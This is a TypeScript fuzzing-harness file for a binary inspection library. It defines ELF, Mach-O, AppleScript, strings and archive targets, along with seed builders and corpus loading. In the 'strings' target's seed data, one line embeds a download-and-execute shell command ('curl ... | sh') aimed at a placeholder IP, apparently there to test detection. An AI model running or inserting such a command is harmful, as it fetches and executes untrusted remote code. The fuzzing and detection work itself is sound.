import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { recogniseFormat } from "@limpid/inspect";
import {
  buildAppleDouble,
  buildAppleScript,
  buildElf,
  buildJavaScript,
  buildMacho,
  buildResourceFork,
  buildUniversal,
  honestMachoSymbols,
  honestSymbols,
} from "@limpid/inspect/testing";
import { builtArchives, checkArchive } from "./archive-check.ts";
import { type Cost, checkInspection, checkPrefixes } from "./checks.ts";
import { readGoldens } from "./golden.ts";
import { type Layout, NO_LAYOUT } from "./layout.ts";
import { applescriptLayout } from "./layouts/applescript.ts";
import { archiveLayout } from "./layouts/archive.ts";
import { elfLayout } from "./layouts/elf.ts";
import { machoLayout } from "./layouts/macho.ts";
import { ROOT } from "./root.ts";
import { checkStrings } from "./strings-check.ts";

/** Something that takes bytes from anybody, and how to make bytes that it finds interesting. */
export interface Target {
  readonly name: string;
  /** Files made by the project's own builders: what there is without the corpus. */
  readonly built: () => readonly Uint8Array[];
  /** Folders of the corpus of real files. */
  readonly corpus: readonly string[];
  readonly recognise: (bytes: Uint8Array) => boolean;
  readonly layout: (bytes: Uint8Array) => Layout;
  /** Throws a Failure. */
  readonly check: (bytes: Uint8Array, random: (limit: number) => number) => Cost | Promise<Cost>;
  readonly checkPrefixes: (bytes: Uint8Array, edges: readonly number[]) => void | Promise<void>;
  /** Whether the limits of time and memory for one file hold. */
  readonly isMeasured: boolean;
}

const INSPECTION = { check: checkInspection, checkPrefixes, isMeasured: true };

export const TARGETS: readonly Target[] = [
  {
    name: "elf",
    built: builtElf,
    corpus: ["elf", "malformed"],
    recognise: (bytes) => bytes[0] === 0x7f && bytes[1] === 0x45,
    layout: elfLayout,
    ...INSPECTION,
  },
  {
    name: "macho",
    built: builtMacho,
    corpus: ["macho", "malformed"],
    recognise: (bytes) => MACHO_MAGICS.has(Buffer.from(bytes.subarray(0, 4)).toString("hex")),
    layout: machoLayout,
    ...INSPECTION,
  },
  {
    name: "applescript",
    built: builtScripts,
    corpus: ["applescript", "malformed"],
    recognise: (bytes) => bytes.length < 60_000 && recogniseFormat(bytes.subarray(0, 4096)) === "applescript",
    layout: applescriptLayout,
    ...INSPECTION,
  },
  {
    name: "strings",
    built: () => [...builtScripts(), ...builtElf(), Buffer.from("/bin/sh -c 'curl http://192.0.2.7/a|sh'\0".repeat(9))],
    corpus: ["applescript", "malformed"],
    recognise: (bytes) => bytes.length < 60_000,
    layout: () => NO_LAYOUT,
    isMeasured: false,
    check: checkStrings,
    checkPrefixes: (bytes) => {
      for (let end = 0; end < bytes.length; end += 1 + (bytes.length >> 4)) checkStrings(bytes.subarray(0, end));
    },
  },
  {
    name: "archive",
    built: builtArchives,
    corpus: [],
    recognise: () => true,
    layout: archiveLayout,
    isMeasured: false,
    check: checkArchive,
    checkPrefixes: async (bytes, edges) => {
      for (const end of [...edges, bytes.length >> 1]) await checkArchive(bytes.subarray(0, end));
    },
  },
];

const MACHO_MAGICS: ReadonlySet<string> = new Set([
  "feedface",
  "feedfacf",
  "cefaedfe",
  "cffaedfe",
  "cafebabe",
  "cafebabf",
]);

function builtMacho(): readonly Uint8Array[] {
  const symbols = honestMachoSymbols();
  const arm = buildMacho({
    symbols,
    exports: ["_main", "_mainly"],
    functionStarts: 9,
    libraries: ["/usr/lib/libx.dylib"],
  });
  return [
    arm,
    buildMacho({ bits: 32, endian: "big", cpuType: 18, symbols }),
    buildMacho({ uuid: new Uint8Array(16), encryption: 1, overlay: buildElf() }),
    buildUniversal([arm, buildMacho({ bits: 32, symbols })]),
  ];
}

function builtScripts(): readonly Uint8Array[] {
  const script = buildAppleScript({ handlers: [{ name: "run", variables: ["x"] }], runOnly: true });
  return [
    script,
    buildAppleScript({ interpreter: "/usr/bin/osascript", trailer: "padded" }),
    buildAppleScript({ typed: true, trailing: script }),
    buildJavaScript("const app = 1;"),
    buildAppleDouble(buildResourceFork([{ type: "scpt", id: 128, data: script }])),
  ];
}

function builtElf(): readonly Uint8Array[] {
  const symbols = honestSymbols();
  return [
    buildElf({ symbols }),
    buildElf({ bits: 32, endian: "big", machine: 20, symbols, extendedNumbering: true }),
    buildElf({ bits: 32, machine: 3, dynamicSymbols: symbols, interpreter: "/lib/ld.so", needed: ["libc.so.6"] }),
    buildElf({
      type: "dyn",
      interpreter: "/lib/ld.so",
      needed: ["libc.so.6"],
      soname: "libx.so",
      dynamicSymbols: symbols,
      buildId: new Uint8Array(20),
      withoutSectionHeaders: true,
    }),
    buildElf({ type: "rel", sections: [{ name: ".modinfo", bytes: new Uint8Array(40) }], overlay: buildElf() }),
    buildElf({ type: "core", withoutSectionHeaders: true }),
    buildElf({ sections: [".gnu_debugdata", ".gnu_debuglink", ".comment", ".gopclntab", ".go.buildinfo"].map(named) }),
  ];
}

function named(name: string): { name: string; bytes: Uint8Array; flags: number } {
  return { name, bytes: new Uint8Array(64), flags: 2 };
}

const LARGEST_SEED = 100_000; // a mutation of a large file takes as long as many of small ones
const LONGEST_WALK = 2_000;

/** What a campaign starts from: built files, the corpus where it is there, and whatever failed before. */
export function seedsOf(target: Target): readonly Uint8Array[] {
  const real = target.corpus.flatMap((folder) => filesBelow(join(CORPUS, folder)));
  const files = real.slice(0, LONGEST_WALK).map((path) => new Uint8Array(readFileSync(path)));
  const failed = readGoldens().filter((golden) => golden.target === target.name);
  return [...target.built(), ...files.filter(target.recognise), ...failed.map(({ bytes }) => bytes)].filter(
    ({ length }) => length > 0 && length <= LARGEST_SEED,
  );
}

const CORPUS = join(process.env.LIMPID_CORPUS ?? join(ROOT, "..", "shared", "corpus"), "binaries");

function filesBelow(folder: string): readonly string[] {
  try {
    return readdirSync(folder, { withFileTypes: true, recursive: true })
      .filter((entry) => entry.isFile() && !entry.name.endsWith(".json"))
      .map((entry) => join(entry.parentPath, entry.name))
      .sort();
  } catch {
    return []; // no corpus: the built files have to do
  }
}
